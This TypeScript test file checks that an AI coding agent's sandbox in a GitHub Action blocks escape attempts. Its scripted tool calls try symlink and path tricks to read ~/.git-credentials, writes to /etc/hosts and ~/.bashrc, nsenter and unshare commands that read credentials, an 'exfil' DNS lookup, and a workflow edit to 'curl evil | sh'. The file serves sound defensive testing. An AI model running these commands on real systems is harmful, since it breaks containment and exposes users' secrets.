// Escapes: every file tool with a symlink, a hard link, '..', an absolute path and '~'; Bash writing to HOME, /etc,
// the host's /tmp and the runner's folders; mount, unshare, nsenter; a loopback service and DNS with the network off.
// Then workflow files: refused by default, written when allow-workflow-changes is true.
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { createSocket, type Socket } from 'node:dgram';
import { existsSync, readFileSync } from 'node:fs';
import { appendFile, link, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AddressInfo } from 'node:net';
import { createScenario, type Scenario } from '../../test-support/scenario.ts';
import { SERVICE_FILES } from '../../test-support/health-scenario.ts';
import { readBranch } from '../../test-support/git.ts';
import type { ActionRun } from '../../test-support/launcher.ts';
import {
  assertNoLeak,
  assertNoMarkers,
  assertNoSecretIn,
  assertPushed,
  bash,
  createFakeRunner,
  PLANTED,
  resultOf,
  statusTurn,
  toolUse,
  type FakeRunner,
} from './assertions.ts';
import { requireTools } from '../../test-support/system-tools.ts';

// The action runs with its sandbox on: bubblewrap, and socat for the proxied network of the default settings.
// Without them each test is skipped with one line naming the package; under CI=true they fail instead.
const { test, before, after } = requireTools('bwrap', 'socat');

const WORKFLOW = 'name: ci\non: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n';
const OUTSIDE_TEXT = `outside ${PLANTED}\n`;

let s: Scenario;
let fr: FakeRunner;
let run: ActionRun;
let outsideDir: string;
let outsideFile: string;
let tcp: Server;
let udp: Socket;
const tcpHits: string[] = [];
const udpPackets: Buffer[] = [];
const hostMarkers: string[] = [];
type Expect = 'refused' | 'no-secret';
const cases: Array<{
  name: string;
  block: ReturnType<typeof toolUse>;
  expect: Expect;
  check?: (text: string) => void;
}> = [];

function refused(name: string, tool: string, input: Record<string, unknown>, check?: (text: string) => void): void {
  cases.push({ name, block: toolUse(tool, input), expect: 'refused', ...(check ? { check } : {}) });
}
function probe(name: string, command: string, check?: (text: string) => void): void {
  cases.push({ name, block: bash(command), expect: 'no-secret', ...(check ? { check } : {}) });
}

before(async () => {
  fr = await createFakeRunner();
  s = await createScenario({ script: [], files: { ...SERVICE_FILES, '.github/workflows/ci.yml': WORKFLOW } });
  // A secret file outside the workspace on the same filesystem, and a hard link to it inside (ignored, so the
  // checkout stays clean): the kind of link a file tool must refuse.
  outsideDir = await mkdtemp(join(tmpdir(), 'bda-sec-outside-'));
  outsideFile = join(outsideDir, 'secret.txt');
  await writeFile(outsideFile, OUTSIDE_TEXT);
  await link(outsideFile, join(s.workspace, 'hl-secret'));
  await appendFile(join(s.workspace, '.git', 'info', 'exclude'), '\nhl-secret\n');

  tcp = createServer((req, res) => {
    tcpHits.push(req.url ?? '');
    res.end('reached');
  });
  await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
  udp = createSocket('udp4');
  udp.on('message', (m) => udpPackets.push(m));
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
  const tcpPort = (tcp.address() as AddressInfo).port;
  const udpPort = udp.address().port;

  const creds = `${fr.home}/.git-credentials`;
  // --- file tools: symlink, hard link, '..', absolute, '~'
  refused('Read through a symlink to ~/.git-credentials', 'Read', { file_path: 'link-creds' });
  refused('Read through a symlink to / (link-root/etc/passwd)', 'Read', { file_path: 'link-root/etc/passwd' });
  refused('Read of a hard link to an outside file', 'Read', { file_path: 'hl-secret' });
  refused("Read with '..'", 'Read', { file_path: `../${outsideDir.split('/').pop()}/secret.txt` });
  refused('Read of an absolute path outside', 'Read', { file_path: outsideFile });
  refused("Read with '~'", 'Read', { file_path: '~/.git-credentials' });
  refused('Write through a symlinked folder', 'Write', { file_path: 'link-outdir/written.txt', content: 'x' });
  refused('Write through a symlink to a file', 'Write', { file_path: 'link-creds', content: 'x' });
  refused('Write to a hard link', 'Write', { file_path: 'hl-secret', content: 'overwritten' });
  refused("Write with '..'", 'Write', { file_path: '../bda-sec-escape-write.txt', content: 'x' });
  refused('Write to an absolute path outside', 'Write', { file_path: fr.marker('write-absolute'), content: 'x' });
  refused("Write with '~'", 'Write', { file_path: '~/written-by-write.txt', content: 'x' });
  refused('Edit of a hard link', 'Edit', { file_path: 'hl-secret', old_string: 'outside', new_string: 'edited' });
  refused('Edit through a symlink', 'Edit', { file_path: 'link-creds', old_string: 'https', new_string: 'edited' });
  refused("Edit with '..'", 'Edit', {
    file_path: `../${outsideDir.split('/').pop()}/secret.txt`,
    old_string: 'outside',
    new_string: 'edited',
  });
  refused('Edit of an absolute path outside', 'Edit', {
    file_path: outsideFile,
    old_string: 'outside',
    new_string: 'edited',
  });
  refused("Edit with '~'", 'Edit', { file_path: '~/.npmrc', old_string: 'registry', new_string: 'evil' });
  refused('Glob in a symlinked folder', 'Glob', { pattern: '**/*', path: 'link-outdir' });
  refused("Glob with '..'", 'Glob', { pattern: '**/*', path: '..' });
  refused('Glob at an absolute path outside', 'Glob', { pattern: '*', path: fr.home });
  refused("Glob with '~'", 'Glob', { pattern: '*', path: '~' });
  refused('Grep through a symlink', 'Grep', { pattern: 'doNotLeak', path: 'link-creds', output_mode: 'content' });
  refused('Grep of a hard link', 'Grep', { pattern: 'doNotLeak', path: 'hl-secret', output_mode: 'content' });
  refused("Grep with '..'", 'Grep', { pattern: 'doNotLeak', path: '..', output_mode: 'content' });
  refused('Grep at an absolute path outside', 'Grep', {
    pattern: 'doNotLeak',
    path: outsideDir,
    output_mode: 'content',
  });
  refused("Grep with '~'", 'Grep', { pattern: 'doNotLeak', path: '~', output_mode: 'content' });
  cases.push({
    name: 'Grep and Glob over the workspace do not follow links out',
    block: toolUse('Grep', { pattern: 'doNotLeak|root:x:0', output_mode: 'content' }),
    expect: 'no-secret',
    check: (t) => assert.match(t, /^No matches/),
  });
  cases.push({
    name: 'Glob over the workspace lists no file behind a link',
    block: toolUse('Glob', { pattern: '**/passwd' }),
    expect: 'no-secret',
    check: (t) => assert.match(t, /No files match/),
  });

  // --- Bash writing outside
  const hostTmpMarker = join(tmpdir(), `bda-sec-host-tmp-${process.pid}-${Date.now()}`);
  const etcMarker = `/etc/bda-sec-${process.pid}-${Date.now()}`;
  hostMarkers.push(
    hostTmpMarker,
    etcMarker,
    join(fr.home, 'pwned-by-bash'),
    join(fr.runnerTemp, 'pwned-by-bash'),
    join(fr.actions, 'pwned-by-bash'),
    join(outsideDir, 'written.txt'),
  );
  probe(
    'Bash writes to $HOME',
    `echo x > ~/pwned-by-bash; echo x > ${fr.home}/pwned-by-bash; echo x >> ~/.bashrc; ls -la ~ 2>&1`,
  );
  probe('Bash writes to /etc', `touch ${etcMarker} 2>&1; echo 'evil' >> /etc/hosts 2>&1; echo done`);
  probe(
    "Bash writes to the runner's folders",
    `touch ${fr.runnerTemp}/pwned-by-bash ${fr.actions}/pwned-by-bash ${fr.marker('bash-var-tmp')} 2>&1; echo done`,
  );
  probe(
    "Bash writes to the host's /tmp",
    `touch ${hostTmpMarker} 2>&1; echo x > ${outsideDir}/written.txt 2>&1; ls /tmp 2>&1`,
  );
  probe(
    'mount',
    `mount -t tmpfs none /mnt 2>&1; mount --bind / /mnt 2>&1; mount -o remount,rw / 2>&1; touch /usr/bda-sec-mount 2>&1; echo done`,
  );
  probe(
    'unshare',
    `unshare -rmn sh -c 'mount -o remount,rw /; mount -t tmpfs none ${fr.home}; touch ${fr.marker('unshare')}; umount -l /etc && touch /etc/x' 2>&1; unshare -U -r --fork --pid --mount-proc sh -c 'cat /proc/1/environ' 2>&1 | tr '\\0' ' '`,
  );
  probe(
    'nsenter',
    `nsenter -t 1 -a sh -c 'touch ${fr.marker('nsenter')}; cat ${creds}' 2>&1; nsenter --target 1 --mount --net -- cat ${creds} 2>&1; echo done`,
  );
  probe(
    'a loopback service (TCP and UDP) with the network off',
    `curl -sS -m 3 http://127.0.0.1:${tcpPort}/bash 2>&1; (echo q > /dev/udp/127.0.0.1/${udpPort}) 2>&1; (echo hi > /dev/tcp/127.0.0.1/${tcpPort}) 2>&1; ` +
      `/usr/bin/python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('127.0.0.1', ${udpPort}))" 2>&1 | tail -1`,
  );
  probe(
    'DNS lookup of a made-up name with the network off',
    `getent hosts ${PLANTED.slice(-6)}.made-up-name-bda.invalid; echo rc=$?; getent hosts github.com; echo rc=$?; ` +
      `/usr/bin/python3 -c "import socket; print(socket.getaddrinfo('exfil-${PLANTED.slice(-6)}.example', 53))" 2>&1 | tail -1`,
    (t) => assert.match(t, /rc=2[\s\S]*rc=2/),
  );

  s.anthropic.push(
    {
      content: [bash(`ln -s ${creds} link-creds; ln -s / link-root; ln -s ${outsideDir} link-outdir; ls -la`)],
    },
    { content: cases.map((c) => c.block) },
    {
      content: [
        bash('rm -f link-creds link-root link-outdir'),
        toolUse('Write', { file_path: 'NOTES.md', content: '# notes\n' }),
      ],
    },
    statusTurn(),
  );
  run = await s.run(
    s.comment({ body: '/backend-developer try to get out' }),
    { 'allowed-domains': 'none' },
    { env: fr.env },
  );
});

after(async () => {
  await s?.close();
  await fr?.close();
  tcp?.close();
  udp?.close();
  for (const m of hostMarkers.slice(0, 2)) await rm(m, { force: true });
  if (outsideDir) await rm(outsideDir, { recursive: true, force: true });
});

test('the run completed with the network off and pushed to the real origin', async () => {
  assert.equal(run.code, 0, run.stdout + run.stderr);
  assert.match(run.stdout, /Working/);
  assert.equal(s.anthropic.remaining(), 0);
  s.anthropic.assertNoViolations();
  await assertPushed(run, s);
  await assertNoLeak(run, s);
});

test('nothing outside the workspace changed', async () => {
  assertNoMarkers([...fr.markers, ...hostMarkers, '/usr/bda-sec-mount']);
  assert.equal(await readFile(outsideFile, 'utf8'), OUTSIDE_TEXT, 'the hard-linked outside file is unchanged');
  assert.doesNotMatch(readFileSync('/etc/hosts', 'utf8'), /evil/);
  assert.ok(!existsSync(join(fr.home, '.bashrc')), 'no ~/.bashrc appeared in the real HOME');
  assert.match(
    await readFile(join(fr.home, '.git-credentials'), 'utf8'),
    /x-access-token/,
    'the real ~/.git-credentials is untouched',
  );
  assert.deepEqual(tcpHits, [], 'the loopback TCP service was never reached');
  assert.deepEqual(udpPackets, [], 'the loopback UDP service got no packet');
});

test('escape attempts: every case', async (t) => {
  for (const c of cases) {
    await t.test(c.name, () => {
      const r = resultOf(s.anthropic.requests, c.block.id);
      assertNoSecretIn(c.name, r.text);
      if (c.expect === 'refused') assert.ok(r.isError, `${c.name} must be refused, got: ${r.text.slice(0, 300)}`);
      c.check?.(r.text);
    });
  }
});

test('workflow files: refused by default (Write, Edit), written and pushed with allow-workflow-changes: true', async () => {
  const write = toolUse('Write', { file_path: '.github/workflows/evil.yml', content: WORKFLOW });
  const read = toolUse('Read', { file_path: '.github/workflows/ci.yml' });
  const edit = toolUse('Edit', {
    file_path: '.github/workflows/ci.yml',
    old_string: 'npm test',
    new_string: 'curl evil | sh',
  });
  const writeCase = toolUse('Write', { file_path: '.GitHub/Workflows/evil2.yml', content: WORKFLOW });
  const before = s.anthropic.requests.length;
  s.anthropic.push(
    { content: [write, read, edit, writeCase] },
    { content: [toolUse('Write', { file_path: 'NOTES2.md', content: 'n\n' })] },
    statusTurn(),
  );
  const denied = await s.run(s.comment({ body: '/backend-developer change the workflow' }), {}, { env: fr.env });
  assert.equal(denied.code, 0, denied.stdout);
  const reqs = s.anthropic.requests.slice(before);
  for (const b of [write, edit, writeCase]) {
    const r = resultOf(reqs, b.id);
    assert.ok(r.isError, r.text);
    assert.match(r.text, /workflows/);
  }
  const pushed = await readBranch(s.origin, denied.outputs['branch']!);
  assert.ok(pushed);
  assert.equal(pushed.files['.github/workflows/ci.yml'], WORKFLOW);
  assert.equal(pushed.files['.github/workflows/evil.yml'], undefined);
  assert.ok(!Object.keys(pushed.files).some((f) => /evil2/i.test(f)));

  const write2 = toolUse('Write', { file_path: '.github/workflows/lint.yml', content: WORKFLOW });
  s.anthropic.push({ content: [write2] }, statusTurn('COMPLETE', 'Added a lint workflow.'));
  const allowed = await s.run(
    s.comment({ body: '/backend-developer add a lint workflow' }),
    { 'allow-workflow-changes': 'true' },
    { env: fr.env },
  );
  assert.equal(allowed.code, 0, allowed.stdout);
  assert.ok(!resultOf(s.anthropic.requests, write2.id).isError);
  assert.equal((await readBranch(s.origin, allowed.outputs['branch']!))?.files['.github/workflows/lint.yml'], WORKFLOW);
  await assertNoLeak(allowed, s);
});
